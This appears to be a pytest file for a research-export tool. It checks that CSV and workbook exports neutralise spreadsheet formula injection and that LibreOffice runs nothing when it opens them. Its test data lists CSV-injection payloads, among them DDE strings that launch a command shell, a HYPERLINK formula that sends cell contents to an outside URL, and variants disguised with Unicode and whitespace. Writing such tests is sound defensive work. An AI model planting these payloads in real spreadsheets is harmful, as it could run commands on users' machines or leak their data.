"""No text that came from elsewhere is run by a spreadsheet: every CSV and every sheet, with LibreOffice as a judge."""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterator
from dataclasses import replace
from datetime import timedelta
from pathlib import Path

import openpyxl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from harvester.cli.references import _write
from harvester.export.cells import neutralised, unneutralised
from harvester.export.files import csv_bytes
from harvester.export.folder import Format, write_exports
from harvester.export.prisma import prisma, prisma_table
from harvester.records import (
    Author,
    Correction,
    Decision,
    Event,
    Extraction,
    Journal,
    Patient,
    Record,
    Report,
    Section,
    Series,
    Span,
)
from manuscripts import AT, RECORDS, SERIES, libreoffice

ATTACKS = (
    "=1+1",
    "=1+1|x",
    '=HYPERLINK("https://example.org/?"&A1,"click")',
    '=WEBSERVICE("https://example.org")',
    '=DDE("cmd";"/C calc";"x")',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " \n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "\x00=1+1",
    "words\n=1+1",
    "words\r\n@SUM(1)",
    "words\r =1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    '"=1+1"',
    "'=1+1",
    "=1+1; =2+2",
    "%0A=1+1",
)
_SIGN = re.compile(r"[\s\x00-\x1f\ufeff\u200b]*[=+\-@＝＋－＠]")


def attacked(attack: str) -> Series:
    """A series in which whatever others wrote is the attack: a record, what was read, what people said of it."""
    record = Record(
        pmid="102",
        title=attack,
        sections=(Section(text=attack),),
        authors=(Author(last=attack, initials="A"), Author(collective=attack)),
        journal=Journal(title=attack, abbreviation=attack),
        dates=RECORDS[1].dates,
        doi=attack,
        pmcid=attack,
        publication_types=(attack,),
        corrections=(Correction(kind="ErratumIn", source=attack), Correction(kind=attack, note=attack)),
    )
    quote = Span.of(record.text, 0, len(record.title)) if record.title else None
    found = Extraction(
        pmid="102",
        case=1,
        field="primary_site_text",
        value=attack,
        spans=(quote,) if quote else (),
        rule=attack,
        rule_version="",
    )
    said = Decision(
        kind="check",
        subject="102#1",
        verdict="no",
        reason=attack,
        by=attack,
        at=AT,
        field="primary_site_text",
        value=attack,
        was=attack,
        quote=attack,
    )
    case = replace(SERIES.patients[0].cases[0], extractions=(found,))
    report = Report(record=record, decision=replace(said, kind="screen"), extractions=(found,))
    return replace(
        SERIES,
        query=replace(SERIES.query, title=attack),
        reports=tuple(report if one.record.pmid == "102" else one for one in SERIES.reports),
        patients=(Patient(id="P102-1", cases=(case,), checked_by=attack),),
        decisions=(said, replace(said, at=AT + timedelta(days=1), reason="plain")),
        events=(Event(pmid="102", state=attack, seen_at=AT, other=attack, effect=attack),),
        flow=replace(SERIES.flow, sources={attack: 9}, excluded={attack: 1}),
    )


def tables(folder: Path) -> Iterator[tuple[str, list[list[str]]]]:
    """Each CSV, those of the figures too, and each sheet of the workbook, as rows of words."""
    for path in sorted(folder.rglob("*.csv")):
        yield path.name, list(csv.reader(io.StringIO(path.read_bytes().decode(), newline="")))
    book = openpyxl.load_workbook(folder / "cases.xlsx")
    for sheet in book.worksheets:
        cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
        assert {cell.data_type for cell in cells} == {"s"}
        yield sheet.title, [[str(cell.value) for cell in cells]]


@pytest.mark.parametrize("attack", ATTACKS)
def test_no_cell_of_any_table_begins_like_a_formula(tmp_path: Path, attack: str) -> None:
    write_exports(attacked(attack), tmp_path)
    found = dict(tables(tmp_path))
    assert set(found) >= {
        *("cases.csv", "reports.csv", "evidence.csv", "decisions.csv", "history.csv", "flow.csv", "PRISMA.csv"),
        *("cases", "references", "dictionary", "about"),
    }
    for name, rows in found.items():
        starting = [cell for row in rows for cell in row for line in re.split(r"[\r\n]+", cell) if _SIGN.match(line)]
        assert starting == [], name
    words = unneutralised(neutralised(attack)).strip()
    for name in ("cases.csv", "reports.csv", "evidence.csv", "decisions.csv", "history.csv"):
        assert any(words in unneutralised(cell) for row in found[name] for cell in row), name


@pytest.mark.parametrize("attack", ATTACKS)
def test_groups_of_duplicates_are_neutralised_too(tmp_path: Path, attack: str) -> None:
    _write(tmp_path / "groups.csv", ("id", "reason"), [(attack, attack)])
    rows = list(csv.reader(io.StringIO((tmp_path / "groups.csv").read_bytes().decode(), newline="")))
    assert rows == [["id", "reason"], [neutralised(attack), neutralised(attack)]]


def test_libreoffice_runs_nothing_in_any_csv_even_if_told_to_trim_and_to_run_formulas(tmp_path: Path) -> None:
    """Comma, quotes, UTF-8; blanks at the ends taken away; formulas evaluated: the most dangerous way to open a CSV."""
    converted = libreoffice(tmp_path)
    bare = tmp_path / "bare.csv"
    bare.write_text("a,b\r\n=1+1, =2+2\r\n", "utf-8")
    dangerous = "--infilter=CSV:44,34,76,1,,0,false,true,false,false,true,-1,true"
    assert "f" in _types(converted(bare, "xlsx", dangerous)), "LibreOffice was not told to run formulas"
    file = tmp_path / "attacks.csv"
    with file.open("wb") as out:
        for number, attack in enumerate(ATTACKS):
            series, folder = attacked(attack), tmp_path / str(number)
            out.writelines(path.read_bytes() for path in write_exports(series, folder, formats=(Format.CSV,)))
            out.write(csv_bytes(prisma_table(prisma(series))))
    assert _types(converted(file, "xlsx", dangerous)) == {"s", "n"}


def _types(path: Path) -> set[str]:
    return {cell.data_type for row in openpyxl.load_workbook(path).worksheets[0].iter_rows() for cell in row}


SIGNS = "=+-@\t\r\n\",;' 0.eNA\ufeff\x00é＝"


@settings(max_examples=1000)
@given(st.text() | st.text(alphabet=SIGNS))
def test_what_is_neutralised_begins_no_line_like_a_formula_and_can_be_undone(text: str) -> None:
    safe = neutralised(text)
    lines = re.split(r"\r\n|\r|\n", safe)
    number = re.fullmatch(r"[+-]?[0-9]+(\.[0-9]+)?([eE][+-]?[0-9]+)?", safe)
    assert number or not any(_SIGN.match(line) for line in lines)
    assert not safe.startswith(("\t", "\r", "\n"))
    assert unneutralised(safe) == unneutralised(text)
    assert safe.replace("'", "") == text.replace("'", "")
